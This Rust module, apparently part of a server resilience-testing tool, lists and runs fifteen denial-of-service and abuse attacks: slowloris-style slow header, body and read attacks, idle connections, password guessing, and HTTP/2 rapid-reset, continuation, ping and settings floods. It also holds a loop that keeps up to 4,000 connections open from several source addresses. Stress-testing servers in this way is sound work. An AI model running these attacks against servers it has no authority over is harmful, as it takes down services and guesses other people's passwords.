//! Attacks on a server: each tries, with little effort of its own, to take what others need.
//!
//! They are known from tools as slowhttptest and from reports on servers. An attack ends when its
//! time is up; a connection that the server closes is replaced by another one after a while, as
//! somebody would do it who means it.

mod floods;
mod frames;
mod idle;
mod passwords;
mod raw;
mod slow;
mod streams;
pub mod tally;
mod target;

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::join_all;
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::request::Request;
use crate::sources::{Crowd, Source, Sources};
use tally::Tally;
pub use target::Target;

/// An attack that can be run.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// `slow-head`.
    pub name: &'static str,
    /// How many connections it has at once.
    pub connections: usize,
    kind: Kind,
}

#[derive(Debug, Clone, Copy)]
enum Kind {
    SlowHead,
    SlowBody { known: bool },
    SlowRead,
    Idle { after_request: bool },
    ConnectAndClose,
    WrongPasswords,
    Streams,
    ZeroWindow,
    RapidReset,
    Continuations,
    Pings,
    Settings,
}

/// All attacks. More connections than a server has places for by default are 1,024.
pub const ATTACKS: &[Attack] = &[
    attack("slow-head", 1024, Kind::SlowHead),
    attack("slow-body-of-stranger", 1024, Kind::SlowBody { known: false }),
    attack("slow-body-of-client", 1024, Kind::SlowBody { known: true }),
    attack("slow-read", 1024, Kind::SlowRead),
    attack("idle-1024", 1024, Kind::Idle { after_request: false }),
    attack("idle-4000", 4000, Kind::Idle { after_request: false }),
    attack("idle-after-request", 1024, Kind::Idle { after_request: true }),
    attack("connect-and-close", 16, Kind::ConnectAndClose),
    attack("wrong-passwords", 64, Kind::WrongPasswords),
    attack("http2-streams", 8, Kind::Streams),
    attack("http2-zero-window", 1024, Kind::ZeroWindow),
    attack("http2-rapid-reset", 8, Kind::RapidReset),
    attack("http2-continuations", 8, Kind::Continuations),
    attack("http2-pings", 8, Kind::Pings),
    attack("http2-settings", 8, Kind::Settings),
];

const fn attack(name: &'static str, connections: usize, kind: Kind) -> Attack {
    Attack { name, connections, kind }
}

/// How long those who hold places wait before they replace a connection.
const SOON: Duration = Duration::from_secs(1);

/// The same for those who send as much as they can.
const AT_ONCE: Duration = Duration::from_millis(10);

/// What an attack is aimed at.
#[derive(Clone)]
pub struct Aim {
    /// The server.
    pub server: SocketAddr,
    /// Where the attack comes from.
    pub sources: Sources,
    /// From how many addresses.
    pub crowd: Crowd,
    /// What is requested.
    pub target: Target,
    /// When the attack ends.
    pub end: Instant,
    /// What it has done.
    pub tally: Arc<Tally>,
}

/// A connection of an attack.
struct Intruder {
    stream: TcpStream,
    source: Source,
}

impl Attack {
    /// Attacks until the end.
    pub async fn run(self, aim: Aim) {
        let sources = aim.sources.clone().with_receive_buffer(self.receive_buffer());
        let (aim, count) = (&Aim { sources, ..aim }, self.connections);
        match self.kind {
            Kind::SlowHead => keep_up(aim, count, SOON, slow::head).await,
            Kind::SlowBody { known } => {
                keep_up(aim, count, SOON, async |aim, it| slow::body(aim, it, known).await).await;
            }
            Kind::SlowRead => keep_up(aim, count, SOON, slow::read).await,
            Kind::Idle { after_request } => {
                keep_up(aim, count, SOON, async |aim, it| idle::wait(aim, it, after_request).await)
                    .await;
            }
            Kind::ConnectAndClose => {
                keep_up(aim, count, Duration::ZERO, idle::close).await;
            }
            Kind::WrongPasswords => keep_up(aim, count, AT_ONCE, passwords::guess).await,
            Kind::Streams => keep_up(aim, count, AT_ONCE, streams::many).await,
            Kind::ZeroWindow => keep_up(aim, count, SOON, streams::without_window).await,
            Kind::RapidReset => keep_up(aim, count, AT_ONCE, floods::rapid_reset).await,
            Kind::Continuations => keep_up(aim, count, AT_ONCE, floods::continuations).await,
            Kind::Pings => keep_up(aim, count, AT_ONCE, floods::pings).await,
            Kind::Settings => keep_up(aim, count, AT_ONCE, floods::settings).await,
        }
    }

    /// Whether there must be passwords for it: it needs [`Target::guess`].
    pub fn guesses_passwords(self) -> bool {
        matches!(self.kind, Kind::WrongPasswords)
    }

    /// How much of an answer the system takes before it is read; unset: its default.
    fn receive_buffer(self) -> Option<u32> {
        matches!(self.kind, Kind::SlowRead).then_some(slow::RECEIVE_BUFFER)
    }
}

impl Aim {
    fn host(&self) -> String {
        self.server.to_string()
    }

    /// The head of a request as it comes from there.
    fn head(&self, request: &Request, source: &Source) -> Bytes {
        source.send(request.clone()).head(&self.host())
    }
}

/// Keeps that many connections at work.
async fn keep_up(
    aim: &Aim,
    count: usize,
    pause: Duration,
    work: impl AsyncFn(&Aim, Intruder) -> io::Result<()>,
) {
    let work = &work;
    let workers = (0..count).map(|number| async move {
        let _ = tokio::time::timeout_at(aim.end, one_after_another(aim, number, pause, work)).await;
    });
    join_all(workers).await;
}

/// Never completes.
async fn one_after_another(
    aim: &Aim,
    number: usize,
    pause: Duration,
    work: &impl AsyncFn(&Aim, Intruder) -> io::Result<()>,
) {
    let source = aim.sources.of_crowd(aim.crowd, number);
    loop {
        if let Ok(stream) = source.connect(aim.server).await {
            let _open = aim.tally.opened();
            // How it ends is of no interest: the server has had enough.
            let _ = work(aim, Intruder { stream, source: source.clone() }).await;
        } else {
            aim.tally.failed();
            tokio::time::sleep(AT_ONCE).await;
        }
        tokio::time::sleep(pause).await;
    }
}
